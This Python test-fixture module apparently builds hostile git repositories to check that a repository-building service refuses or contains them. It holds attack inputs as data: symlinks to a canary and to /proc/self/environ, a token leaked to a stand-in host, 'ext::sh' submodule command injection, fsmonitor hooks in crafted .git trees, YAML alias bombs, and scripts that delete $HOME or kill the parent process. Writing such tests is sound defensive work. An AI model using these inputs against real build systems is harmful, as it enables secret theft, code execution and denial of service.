"""Repositories that attack the machine they are built on, each made by code with a real git.

A canary is a file outside of everything that a repository may touch; its content must show nowhere.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

from attrs import field, frozen
from ringbinder.testing.gitserver import Repository

CANARY: Final = "canary-7f3a9c"
_UNREAD: Final = ".python-version"
"""Nothing reads it where an environment is shared: uv then runs outside of the repository."""
RECIPES: Final = (
    "runtime.txt", "environment.yml", "environment.yaml", "Pipfile", "Pipfile.lock", "requirements.txt", "pixi.toml",
    "pixi.lock", "pyproject.toml", "setup.py", "uv.toml", ".python-version", "postBuild", "start", "install.R",
    "DESCRIPTION", "Dockerfile", "apt.txt",
)  # fmt: skip

Make = Callable[[Repository, Path], None]
"""Fills a repository; the second argument is the canary."""


@frozen
class Hostile:
    """A repository, and what building it must come to."""

    make: Make
    code: str = ""
    """Of the error; several, with ``|`` between them, where the machine decides; empty: it is built."""
    options: Mapping[str, str] = field(factory=dict)


def files(content: Mapping[str, str | bytes]) -> Make:
    """Return a maker of ordinary files; ``@CANARY@`` in them is the canary's path."""

    def make(repository: Repository, canary: Path) -> None:
        repository.commit(
            {
                name: text.replace("@CANARY@", str(canary)) if isinstance(text, str) else text
                for name, text in content.items()
            }
        )

    return make


def link(name: str, target: str = "@CANARY@", more: Mapping[str, str | bytes] | None = None) -> Make:
    """Return a maker of the link `name` to `target`."""

    def make(repository: Repository, canary: Path) -> None:
        path = repository.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target.replace("@CANARY@", str(canary)).replace("@OUTSIDE@", str(canary.parent)))
        files(more or {"README.md": ""})(repository, canary)

    return make


def script(*lines: str, **more: str) -> Make:
    """Return a maker of a postBuild; it finds the canary's path in the variable `canary`."""
    text = "\n".join(["#!/bin/bash", "canary='@CANARY@'", *lines, ""])
    return files({"postBuild": text, **more})


def raw_tree(*entries: tuple[str, str, bytes]) -> Make:
    """Return a maker of a commit whose tree has `entries` (mode, name, content), which git itself would not add."""

    def make(repository: Repository, _: Path) -> None:
        def run(*arguments: str, data: bytes) -> str:
            command = ["git", "-c", "core.protectHFS=false", "-c", "core.protectNTFS=false", *arguments]
            environment = {"PATH": os.environ["PATH"], "HOME": os.devnull}
            done = subprocess.run(
                command, cwd=repository.folder, input=data, capture_output=True, check=True, env=environment
            )
            return done.stdout.decode().strip()

        listed = b""
        for mode, name, content in entries:
            blob = run("hash-object", "-w", "--stdin", data=content)
            if mode == "040000":
                blob = run("mktree", "-z", data=b"100644 blob %s\tconfig\0" % blob.encode())
            kind = "tree" if mode == "040000" else "blob"
            listed += f"{mode} {kind} {blob}\t".encode() + os.fsencode(name) + b"\0"
        tree = run("mktree", "-z", data=listed)
        repository.commit()
        identity = ("-c", "user.name=x", "-c", "user.email=x@example.org")
        commit = run(*identity, "commit-tree", tree, "-m", "x", data=b"")
        repository.git("update-ref", "refs/heads/main", commit)

    return make


def submodule(url: str) -> Make:
    def make(repository: Repository, canary: Path) -> None:
        repository.commit({"README.md": ""})
        repository.submodule("sub", url.replace("@CANARY@", str(canary)), repository.git("rev-parse", "HEAD"))
        repository.commit()

    return make


def many_files(repository: Repository, _: Path) -> None:
    """20,000 files, and 150 folders in one another."""
    repository.commit({f"many/{n % 100}/{n}": "" for n in range(20_000)} | {"/".join(["deep"] * 150): ""})


_BOMB: Final = "\n".join(
    ["a0: &a0 [x,x,x,x,x,x,x,x,x]", *(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 5)}]" for n in range(1, 9))]
)

REFUSED: Final[Mapping[str, Hostile]] = {
    **{f"link {name}": Hostile(link(name), "bad-file") for name in RECIPES if name != _UNREAD},
    "runtime.txt -> environ": Hostile(link("runtime.txt", "/proc/self/environ"), "bad-file"),
    "environment.yml -> zero": Hostile(link("environment.yml", "/dev/zero"), "bad-file"),
    "binder -> outside": Hostile(link("binder", "@OUTSIDE@"), "bad-file"),
    "link to itself": Hostile(link("requirements.txt", "requirements.txt"), "bad-file"),
    "link over a folder": Hostile(link("a", "@OUTSIDE@", {"requirements.txt": "-r a/canary"}), "bad-file"),
    "requirements -r": Hostile(files({"requirements.txt": "-r @CANARY@\n"}), "bad-file"),
    "requirements -e": Hostile(files({"requirements.txt": "-e ../../..\n"}), "bad-file"),
    "requirements --find-links": Hostile(files({"requirements.txt": "--find-links file:///etc\n"}), "bad-file"),
    "requirements ${}": Hostile(files({"requirements.txt": "a @ https://h.example/${UV_TOKEN}\n"}), "bad-file"),
    "pip: -r": Hostile(files({"Pipfile": '[packages]\na = {path = "@CANARY@"}\n'}), "bad-file"),
    "pyproject source": Hostile(files({"pyproject.toml": '[project]\nname = "x"\nversion = "1"\n'
        '[tool.uv.sources]\na = {path = "/etc"}\n'}), "bad-file"),
    "alias bomb": Hostile(files({"environment.yml": _BOMB}), "bad-file"),
    "environment.yml of 3.5 MB": Hostile(files({"environment.yml": "- a\n" * 900_000}), "bad-file"),
    "deep environment.yml": Hostile(files({"environment.yml": "[" * 200_000}), "bad-file"),
    "deep pyproject.toml": Hostile(files({"pyproject.toml": "a." * 100_000 + "b = 1"}), "bad-file"),
    "deep Pipfile.lock": Hostile(files({"Pipfile.lock": "[" * 100_000}), "bad-file"),
    "pixi.lock of a folder": Hostile(files({"pixi.toml": '[workspace]\nchannels = ["file:///etc"]\n'
        '[dependencies]\na = "*"\n'}), "build-failed"),
    "environment.yml of a folder": Hostile(files({"environment.yml": "channels: [../..]\ndependencies: [a]\n"}),
        "build-failed"),
    "pixi.lock that is a bomb": Hostile(files({"pixi.lock": f"version: 6\n{_BOMB}"}), "build-failed"),
    "submodule option": Hostile(submodule("-u./payload"), "submodule-not-found"),
    "submodule ext": Hostile(submodule("ext::sh -c 'echo x > @CANARY@'"), "submodule-not-found"),
    "tree .git": Hostile(raw_tree(("040000", ".git", b"[core]\nfsmonitor = touch x\n")), "ref-not-found"),
    "tree .GIT": Hostile(raw_tree(("040000", ".GIT", b"[core]\nfsmonitor = touch x\n")), "ref-not-found"),
    "tree ..": Hostile(raw_tree(("040000", "..", b"x")), "ref-not-found"),
}  # fmt: skip

BUILT: Final[Mapping[str, Hostile]] = {
    "requirements over a link": Hostile(link(".ringbinder-requirements.txt", more={"Pipfile": "[packages]\n"
        'six = "*"\n'})),
    ".gitattributes -> outside": Hostile(link(".gitattributes")),
    f"{_UNREAD} -> outside": Hostile(link(_UNREAD)),
    "names": Hostile(raw_tree(("100644", "a\nb", b"x"), ("100644", os.fsdecode(b"\xff\xfe"), b"x"),
        ("100644", "\x1b]0;x\x07", b"x"), ("100644", "-rf", b"x"))),
    "case": Hostile(raw_tree(("100644", "A", b"x"), ("100644", "a", b"x"))),
    "many files": Hostile(many_files),
    "markers": Hostile(script(
        'for up in .. ../.. ../../..; do for name in image.json image.json.new interpreter.json conda.json; do',
        'ln -sfn "$canary" "$up/$name"; echo "{}" > "$up/$name.x"; done; done', "true")),
    "env's python": Hostile(script('ln -sfn "$canary" "$VIRTUAL_ENV/bin/python"'), "|bad-image"),
    "env": Hostile(script('rm -rf "$VIRTUAL_ENV"; ln -sfn "$(dirname "$canary")" "$VIRTUAL_ENV"'), "bad-image"),
    "home and tmp": Hostile(script('rm -rf "$HOME" "$TMPDIR"; ln -sfn "$(dirname "$canary")" "$HOME"',
        'ln -sfn "$(dirname "$canary")" "$TMPDIR"'), "|bad-image"),
    "pipes": Hostile(script("rm -f start postBuild; mkfifo start postBuild .gitattributes environment.yml",
        start="#!/bin/sh\n"), "|bad-image"),
    "devices": Hostile(script("rm -f start; mknod start c 1 5 || mkfifo start", start="#!/bin/sh\n"), "|bad-image"),
    "start -> outside": Hostile(script('ln -sfn "$canary" start', start="#!/bin/sh\n"), "|bad-image"),
    "no output": Hostile(script("exec >&- 2>&- <&-; true")),
    "daemons": Hostile(script("setsid sleep 1000 & (sleep 1000 &) ; nohup sleep 1000 & disown -a; true")),
    "escapes": Hostile(script(r"printf '\033]0;x\007\033[2J\u202e\r\n\0\377x\n'")),
    "locked folders": Hostile(script("mkdir -p a/b; touch a/b/c; chmod 500 a/b; chmod 0 a")),
    "set-user-id": Hostile(script("cp /bin/true t; chmod 6755 t")),
}  # fmt: skip

FAILING: Final[Mapping[str, Hostile]] = {
    "endless line": Hostile(script("yes | tr -d '\\n'"), "build-limit", {"build_output_limit": "1M"}),
    "endless lines": Hostile(script("yes ''"), "build-limit", {"build_output_limit": "1M"}),
    # Taken without being written, which a machine that is busy with its disk could take minutes for.
    "full disk": Hostile(script("fallocate -l 900M x; sleep 100"), "build-limit",
        {"build_disk_limit": "400M"}),
    "deep": Hostile(script("d=.; for n in $(seq 300); do d=$d/d; done; mkdir -p $d"), "build-limit"),
    "deep and fails": Hostile(script("d=.; for n in $(seq 300); do d=$d/d; done; mkdir -p $d; exit 1"),
        "build-failed|build-limit"),
    "a line of base64": Hostile(script("head -c 45000 /dev/zero | base64 -w 0; exit 1"), "build-failed"),
    "kills its parent": Hostile(script("kill -9 $PPID; sleep 1; exit 1"), "build-failed|out-of-memory"),
    "links and fails": Hostile(script('ln -sfn "$(dirname "$canary")" ../gone; rm -rf ../tmp; ln -s / ../tmp; exit 1'),
        "build-failed"),
}  # fmt: skip
